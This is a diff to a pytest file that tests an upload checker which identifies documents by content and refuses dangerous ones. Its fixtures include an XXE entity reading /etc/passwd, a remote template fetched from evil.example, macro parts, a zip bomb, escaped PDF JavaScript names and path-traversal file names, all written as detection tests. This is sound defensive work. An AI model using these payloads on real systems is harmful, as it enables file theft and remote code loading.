@@ -1,38 +1,87 @@
-"""Files are told by what they hold, never by what they are called."""
+"""Files are told by what they hold, never by what they are called; what is dangerous is refused with a sentence."""
 
 import io
 import zipfile
 
 import pytest
 
-from goldenthread.casework.files import LARGEST, accepted
+from goldenthread.casework.files import LARGEST, WORD, accepted, inside
 from goldenthread.kit.errors import Refused
+from tests.kit.received import documents
+
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + rb"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+SOUND = documents.word("Ash needs help with reading.")
 
 
-def docx():
+def archive(**parts):
     kept = io.BytesIO()
-    with zipfile.ZipFile(kept, "w") as archive:
-        archive.writestr("word/document.xml", "<w/>")
+    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as made:
+        for name, words in parts.items():
+            made.writestr(name.replace("__", "/").replace("_xml", ".xml"), words)
     return kept.getvalue()
 
 
 @pytest.mark.parametrize(("name", "content", "mime"), [
-    ("a.pdf", b"%PDF-1.7 ...", "application/pdf"), ("photo.exe", b"\x89PNG\r\n\x1a\n...", "image/png"),
+    ("a.pdf", documents.blank(), "application/pdf"), ("photo.exe", b"\x89PNG\r\n\x1a\n...", "image/png"),
     ("a.jpg", b"\xff\xd8\xff\xe0", "image/jpeg"), ("a.heic", b"\0\0\0\x18ftypheic....", "image/heic"),
-    ("a.txt", "Dear Zoë\n".encode(), "text/plain"),
-    ("a.docx", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
+    ("a.txt", "Dear Zoë\n".encode(), "text/plain"), ("a.docx", SOUND, WORD),
+    ("a.docx", documents.with_part(SOUND, "word/embeddings/sheet.xlsx", b"PK\x03\x04 a chart"), WORD),
 ])  # fmt: skip
 def test_accepted_takes_what_people_send(name, content, mime):
     assert accepted(name, content).mime == mime
 
 
 @pytest.mark.parametrize(("name", "content"), [
-    ("a.pdf", b"MZ\x90\0 program"), ("a.docm", docx()), ("a.zip", docx()), ("a.txt", b"\x00\x01"),
-    ("a.docx", b"PK\x03\x04 other"),
+    ("a.docm", SOUND), ("a.zip", SOUND), ("a.txt", b"\x00\x01"), ("a.docx", b"PK\x03\x04 other"), ("a.html", b"\x07"),
 ])  # fmt: skip
 def test_accepted_refuses_other_kinds(name, content):
     with pytest.raises(Refused, match="of a kind that we cannot open"):
         accepted(name, content)
+
+
+@pytest.mark.parametrize(("name", "content", "words"), [
+    ("a.txt", EICAR, "holds a virus"),
+    ("a.pdf", documents.blank() + EICAR, "holds a virus"),
+    ("a.docx", documents.with_part(SOUND, "word/media/a.png", EICAR), "holds a virus"),
+    ("a.pdf", b"MZ\x90\0 program", "is a program"),
+    ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 old", "old or locked Office file"),
+    ("a.rtf", b"{\\rtf1 words}", "old or locked Office file"),
+    ("a.docx", documents.with_part(SOUND, "word/vbaProject.bin", b"macro"), "holds macros"),
+    ("a.docx", documents.with_part(SOUND, "[Content_Types].xml", b'<a ContentType="x.macroEnabled.main+xml"/>'), "holds macros"),
+    ("a.docx", documents.with_part(SOUND, "word/big.xml", b" " * 70_000_000), "unpacks to far more"),
+    ("a.docx", documents.with_part(SOUND, "word/document.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
+     "instructions to read other files"),
+    ("a.docx", documents.with_part(SOUND, "word/document.xml", '<!DOCTYPE a [<!ENTITY b "b">]><a/>'.encode("utf-16")),
+     "instructions to read other files"),
+    ("a.docx", documents.with_part(SOUND, "word/_rels/settings.xml.rels",
+     b'<r Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'),
+     "fetches parts of itself"),
+    ("a.docx", documents.with_part(SOUND, "word/embeddings/oleObject1.bin", b"MZ"), "another file inside it"),
+    ("a.docx", SOUND[:-300] + b"word/", "is damaged"),
+    ("a.pdf", documents.pdf_that("runs"), "holds a program"),
+    ("a.pdf", documents.pdf_that("carries"), "other files inside it"),
+    ("a.pdf", documents.pdf_that("is locked"), "locked with a password"),
+    ("a.pdf", b"%PDF-1.7 and nothing more", "is damaged"),
+    ("a.pdf", documents.blank(301), "has 301 pages"),
+])  # fmt: skip
+def test_accepted_refuses_what_is_dangerous_and_says_why(name, content, words):
+    with pytest.raises(Refused, match=words) as refused:
+        accepted(name, content)
+    assert refused.value.sentence.startswith("“")
+    assert refused.value.sentence.endswith(".")
+
+
+def test_a_javascript_that_hides_behind_an_escaped_name_is_found():
+    hidden = documents.pdf_that("runs").replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/#4A#53")
+    with pytest.raises(Refused, match="holds a program"):
+        accepted("a.pdf", hidden)
+
+
+def test_a_bomb_is_refused_without_being_unpacked():
+    swollen = archive(word__document_xml=b"<a/>", word__zeros=b"\0" * 200_000_000)
+    assert len(swollen) < 300_000
+    with pytest.raises(Refused, match="unpacks to far more"):
+        accepted("a.docx", swollen)
 
 
 def test_accepted_refuses_empty_and_too_large():
@@ -42,6 +91,49 @@ def test_accepted_refuses_empty_and_too_large():
         accepted("a.pdf", b"%PDF-" + b"x" * LARGEST)
 
 
-@pytest.mark.parametrize("name", ["../../etc/report.pdf", "C:\\Users\\me\\report.pdf", "/report.pdf"])
+@pytest.mark.parametrize("name", ["../../etc/report.txt", "C:\\Users\\me\\report.txt", "/report.txt"])
 def test_accepted_keeps_the_name_and_no_folder(name):
-    assert accepted(name, b"%PDF-").name == "report.pdf"
+    assert accepted(name, b"Hello").name == "report.txt"
+
+
+def test_inside_gives_the_paragraphs_of_a_word_document_with_headings_and_tables():
+    content = documents.word("Needs", "Ash needs help.", headings=("Needs",), table=("Often", "daily"))
+    assert inside(accepted("a.docx", content)).paragraphs == [
+        ("Needs", True),
+        ("Ash needs help.", False),
+        ("Often: daily", False),
+    ]
+
+
+def test_inside_leaves_out_what_was_struck_and_knows_it_as_hidden():
+    body = (
+        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        b"<w:body><w:p><w:r><w:t>Ash reads"
+        b"</w:t></w:r><w:del><w:r><w:delText> Bo Other</w:delText></w:r></w:del></w:p></w:body>"
+        b"</w:document>"
+    )
+    read = inside(accepted("a.docx", documents.with_part(SOUND, "word/document.xml", body)))
+    assert read.paragraphs == [("Ash reads", False)]
+    assert "Bo Other" in read.hidden
+
+
+def test_inside_gives_the_paragraphs_of_a_pdf():
+    first = "Ash finds it hard to follow spoken instructions of more than two parts in a class of thirty, and then asks."
+    read = inside(accepted("a.pdf", documents.pdf(first, "Ash needs a calm place to work.")))
+    words = [words for words, _ in read.paragraphs]
+    assert first in words
+    assert "Ash needs a calm place to work." in words
+    assert not read.is_scan
+
+
+def test_inside_says_that_a_scan_has_no_words():
+    read = inside(accepted("a.pdf", documents.blank(3)))
+    assert read.is_scan
+    assert (read.pages, read.paragraphs) == (3, [])
+
+
+def test_inside_parts_plain_text_at_empty_lines():
+    assert [one for one, _ in inside(accepted("a.txt", b"One\r\nline\r\n\r\nTwo")).paragraphs] == [
+        "One line",
+        "Two",
+    ]
